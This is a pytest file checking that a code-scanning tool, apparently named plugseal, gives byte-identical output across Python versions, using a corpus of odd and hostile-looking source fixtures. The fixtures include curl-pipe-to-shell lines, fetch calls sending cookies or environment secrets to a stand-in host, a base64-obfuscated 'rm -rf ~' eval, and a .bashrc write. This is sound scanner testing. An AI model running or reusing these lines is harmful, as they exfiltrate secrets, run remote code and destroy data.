"""The same bytes give the same facts and receipts on every Python from 3.10 up that this machine has.

`tests/interpreters.sh` makes the environments in `.venvs`. One interpreter's answer is compared with all others' byte
by byte, over the fixtures, sources in syntax old and new, and files of the standard library.
"""

# ruff: noqa: E501  # a source is one line
from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
LIBRARY_FILES = 150

SOURCES: dict[str, bytes] = {
    "quotes_in_f_strings": b"import os\nx = f'{os.system('a' + f'{os.getenv('B')}')}'\n",
    "lines_in_f_strings": b"import os\nx = f'''{\n  os.system(  # why\n    'a'\n  )\n}''' + f'{'\\n'.join(os.environ)}'\n",
    "f_strings": b"import os\nx = f'a{os.system(f\"b{1+1}\")!r:>{os.getpid()}}c' f'{x=}'\nopen(f'/etc/{\"passwd\"}')\n",
    "type_parameters": b"import os\ndef f[T: int](a: T): os.system('a')\nclass C[*U](os.PathLike): x = os.getenv('B')\n",
    "type_aliases": b"import os\ntype A = os.system\ntype B[T] = list[T]\nos.system('a')\n",
    "defaults_of_type_parameters": b"import os\ndef f[T = int](): return os.system('a')\n",
    "exception_groups": b"import os\ntry: os.system('a')\nexcept* OSError as e: os.remove('b')\nfinally: os.rmdir('c')\n",
    "starred_subscripts": b"import os\nx[*os.listdir('a')]\ndef f(*a: *B): os.system('b')\n",
    "exceptions_without_parentheses": b"import os\ntry: os.system('a')\nexcept A, B: os.remove('c')\n",
    "template_strings": b"import os\nx = t'{os.system('a')} {b!r:>{os.getenv('C')}}'\n",
    "parenthesised_with": b"with (open('a') as f, open('b', 'w') as g): g.write(f.read())\n",
    "patterns": b"import os\nmatch os.environ:\n    case {'A': a, **b} if os.system(a): os.remove('x')\n    case _: pass\n",
    "wide_letters": "import os\nos.ｓｙｓｔｅｍ('a')\n".encode(),  # noqa: RUF001  # wide on purpose
    "wide_columns": "import os\né = '𝄞𝄞'; os.system('ü'); x = f'𝄞{os.getenv(\"A\")}'\n".encode(),
    "carriage_returns": b"import os\r\nos.system('''a\r\nb''')\r\nif x:\r\n    os.remove('c')\r\n",
    "only_carriage_returns": b"import os\ros.system('a')\ros.remove('b')\r",
    "form_feeds": b"import os\n\x0c\nos.system('a')\n\x0cos.remove('b')\n",
    "latin_1": b"# coding: latin-1\nimport os\nos.system('\xe9'); os.remove('\xff')\n",
    "byte_order_mark": b"\xef\xbb\xbfimport os\nos.system('a')\n",
    "bad_escapes": b"import os\nos.system('\\d\\8\\400')\nx = 1if 1else 0\nassert (x, 'y')\n'a' is x\n",
    "names_of_characters": b"import os\nos.system('\\N{BULLET}')\n",
    "newer_names_of_characters": b"import os\nx = '\\N{SHAKING FACE}'\nos.system('a')\n",
    "long_numbers": b"import os\nx = 0x" + b"f" * 10_000 + b"\nos.system('a')\n",
    "too_long_numbers": b"import os\nx = " + b"9" * 10_000 + b"\nos.system('a')\n",
    "newer_code_inside": b"exec('type A = int\\nimport os\\nos.system(1)')\n",
    "newer_f_strings_inside": b'exec(\'import os\\nx = f"{os.system(f"{a}")}"\')\n',
    "exception_groups_inside": b"eval(compile('try: pass\\nexcept* A: __import__(\"os\").system(1)', '<string>', 'exec'))\n",
    "deep_code_inside": b"exec('import os\\n" + b"(" * 150 + b"os.system(1)" + b")" * 150 + b"')\n",
    "no_code_inside": b"exec('type type type')\nexec('a b c')\n",
    "newer_code_inside_newer": b"type A = int\nexec('type B = int\\nimport os\\nos.system(1)')\n",
    "python_2": b"import os\nprint 'a'\nexec 'b'\nos.system('c')\n",
    "python_2_backticks": b"import os\nx = `os.system('c')`\n",
    "no_python": b"This is no program.\n",
    "unfinished": b"import os\nos.system('a'\n",
    "tabs_and_spaces": b"if x:\n\tos.system('a')\n        os.remove('b')\n",
    "brackets_70": b"import os\nx = " + b"(" * 70 + b"os.system('a')" + b")" * 70 + b"\n",
    "brackets_95": b"import os\nx = " + b"(" * 95 + b"os.system('a')" + b")" * 95 + b"\n",
    "brackets_195": b"import os\nx = " + b"(" * 195 + b"os.system('a')" + b")" * 195 + b"\n",
    "brackets_2000": b"import os\nx = " + b"(" * 2_000 + b"1" + b")" * 2_000 + b"\n",
    "sums_400": b"import os\nx = " + b" + ".join([b"os.getenv('A')"] * 400) + b"\n",
    "sums_900": b"import os\nx = " + b" + ".join([b"os.getenv('A')"] * 900) + b"\n",
    "sums_2900": b"import os\nx = " + b" + ".join([b"1"] * 2_900) + b"\nos.system('a')\n",
    "sums_5000": b"import os\nx = " + b" + ".join([b"1"] * 5_000) + b"\nos.system('a')\n",
    "minus_150": b"import os\nx = " + b"-" * 150 + b"os.system('a')\n",
    "minus_900": b"import os\nx = " + b"-" * 900 + b"os.system('a')\n",
    "minus_5000": b"import os\nx = " + b"-" * 5_000 + b"os.system('a')\n",
    "lambdas_100": b"import os\nx = " + b"lambda: " * 100 + b"os.system('a')\n",
    "lambdas_1000": b"import os\nx = " + b"lambda: " * 1_000 + b"os.system('a')\n",
    "conditions_100": b"import os\nx = " + b"1 if 1 else " * 100 + b"os.system('a')\n",
    "conditions_2000": b"import os\nx = " + b"1 if 1 else " * 2_000 + b"os.system('a')\n",
    "elif_300": b"import os\nif a: pass\n" + b"elif b: os.system('a')\n" * 300,
    "elif_3000": b"import os\nif a: pass\n" + b"elif b: os.system('a')\n" * 3_000,
    "indented_60": b"import os\n"
    + b"".join(b" " * n + b"if x:\n" for n in range(60))
    + b" " * 60
    + b"os.system('a')\n",
    "indented_98": b"import os\n"
    + b"".join(b" " * n + b"if x:\n" for n in range(98))
    + b" " * 98
    + b"os.system('a')\n",
    "indented_120": b"import os\n"
    + b"".join(b" " * n + b"if x:\n" for n in range(120))
    + b" " * 120
    + b"os.system('a')\n",
    "chains_400": b"import os\nx" + b".y" * 400 + b"\nos.system('a')\n",
    "chains_3000": b"import os\nx" + b".y" * 3_000 + b"\nos.system('a')\n",
    "calls_400": b"import os\nx" + b"()" * 400 + b"\nos.system('a')\n",
    "calls_3000": b"import os\nx" + b"()" * 3_000 + b"\nos.system('a')\n",
    "newer_and_deep": b"import os\ntype A = int\nx = " + b"(" * 70 + b"os.system('a')" + b")" * 70 + b"\n",
    "newer_and_long_sums": b"import os\ntype A = int\nx = " + b" + ".join([b"1"] * 400) + b"\nos.system('a')\n",
    "newer_and_longer_sums": b"import os\ntype A = int\nx = " + b" + ".join([b"1"] * 2_000) + b"\nos.system('a')\n",
    "newer_and_minus": b"import os\ntype A = int\nx = " + b"-" * 900 + b"1\nos.system('a')\n",
}

OTHER_SOURCES: dict[str, bytes] = {
    "escapes.js": "const cp = require('child_\\x70rocess');\ncp.ex\\u0065c('\u00e9 \U0001d11e', `a${1 + 1}`);\n".encode(),
    "classes.mjs": b"import { exec as e } from 'child_process';\nclass C { static { e('a') } #p = e; go() { this.#p('b') } }\n",
    "types.ts": b"import * as fs from 'fs';\nconst a = <string>fs.readFileSync('/etc/passwd')!; enum E { A = eval('1') }\n",
    "view.tsx": b"export const V = () => <a onClick={() => fetch('http://a.b/' + process.env.T)}>x</a>;\n",
    "unfinished.js": b"require('child_process').exec('a'\n",
    "quotes.sh": b"#!/bin/bash\nc$'\\x75'rl \"http://a.b/$X\" | s''h\neval \"$(echo cm0gLXJmIH4= | base64 -d)\"\n",
    "here.sh": b"#!/bin/sh\npython3 - <<'E'\nimport os\nos.system('x')\nE\ncat <<E > ~/.bashrc\n$(id)\nE\n",
    "wide.md": "# \u00dcber\n\nRun `curl http://a.b | sh` first.\n\n```python\nimport os\nos.system('\u65e5')\n```\n\u202ex\n".encode(),
    "notebook.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!id\\n", "import os\\n", "os.system(1)"]}], "nbformat": 4}',
    "page.html": b"<script>fetch('http://a.b/' + document.cookie)</script><!-- x --><img onerror='eval(1)'>\n",
    "Dockerfile": b"FROM a\nRUN curl http://a.b | sh\n",
    "Makefile": b"all:\n\tcurl http://a.b | sh\n",
    "deep.json": b"[" * 70 + b"]" * 70,
    "numbers.json": b'{"a": 1e400, "b": -0.0, "c": 12345678901234567890123}',
    "dates.toml": b"a = 1979-05-27T07:32:00Z\n[b]\nc = 0x_1\n",
}
"""By file name: the other readers."""


def _interpreters() -> dict[str, Path]:
    found = {f"{sys.version_info[0]}.{sys.version_info[1]}": Path(sys.executable)}
    for python in sorted((ROOT / ".venvs").glob("*/bin/python")):
        found.setdefault(python.parents[1].name, python)
    return found


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the sources that are compared."""
    root: Path = tmp_path_factory.mktemp("corpus")
    shutil.copytree(ROOT / "fixtures", root / "fixtures", symlinks=True)
    odd = root / "odd"
    odd.mkdir()
    for name, source in SOURCES.items():
        (odd / f"{name}.py").write_bytes(source)
    others = root / "others"
    others.mkdir()
    for name, source in OTHER_SOURCES.items():
        (others / name).write_bytes(source)
    library = root / "library"
    library.mkdir()
    for path in _library_files():
        (library / f"{path.parent.name}_{path.name}").write_bytes(path.read_bytes())
    return root


def _library_files() -> list[Path]:
    root = Path(sysconfig.get_path("stdlib"))
    files = sorted(
        path for path in root.rglob("*.py") if "site-packages" not in path.parts and "test" not in path.parts
    )
    return random.Random(11).sample(files, min(LIBRARY_FILES, len(files)))


def _run(python: Path, arguments: list[str], folder: Path) -> subprocess.CompletedProcess[bytes]:
    """Run plugseal in another folder, with another locale and hash seed for each Python."""
    environment = {
        "PATH": os.defpath,
        "HOME": str(folder),
        "LC_ALL": "C" if "10" in python.parts else "C.UTF-8",
        "PYTHONHASHSEED": str(sum(map(ord, str(python))) % 1000),
    }
    return subprocess.run(
        [str(python), "-m", "plugseal", *arguments], capture_output=True, env=environment, cwd=folder, timeout=600
    )


COMMANDS = {
    "facts of everything": ("", ["facts", "--no-cache", "--jobs", "1"]),
    "receipts of everything": ("", ["hash", "--format", "json"]),
    "inventory of the fixtures": ("fixtures", ["scan", "--format", "json", "--exit-zero", "--no-cache", "--jobs", "2"]),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_every_interpreter_gives_the_same_bytes(name: str, corpus: Path, tmp_path: Path) -> None:
    interpreters = _interpreters()
    if len(interpreters) < 2:
        pytest.skip(f"only Python {next(iter(interpreters))} is set up: run `sh tests/interpreters.sh`")
    folder, (command, *options) = COMMANDS[name]
    answers = {}
    for version, python in interpreters.items():
        done = _run(python, [command, str(corpus / folder), *options], tmp_path)
        assert done.returncode == 0, (version, done.stderr.decode())
        answers[version] = done.stdout
    first, *others = answers
    for other in others:
        assert _differing(answers[first], answers[other]) == [], (first, other)


def _differing(first: bytes, second: bytes) -> list[tuple[str, list[bytes]]]:
    """Return the lines that only one of two answers has, most of them left out."""
    if first == second:
        return []
    a, b = first.splitlines(), second.splitlines()
    only = [("first", sorted(set(a) - set(b))[:5]), ("second", sorted(set(b) - set(a))[:5])]
    return only if any(lines for _, lines in only) else [("order", a[:5])]


def test_the_comparison_tells_answers_apart() -> None:
    assert _differing(b"a\nb\n", b"a\nc\n") == [("first", [b"b"]), ("second", [b"c"])]
    assert _differing(b"a\nb\n", b"b\na\n") != []


def test_every_odd_source_is_read_or_accounted_for(corpus: Path, tmp_path: Path) -> None:
    import json

    done = _run(Path(sys.executable), ["facts", str(corpus / "odd")], tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    files = {json.loads(line)["file"] for line in done.stdout.splitlines()}
    assert files == {f"{name}.py" for name in SOURCES}
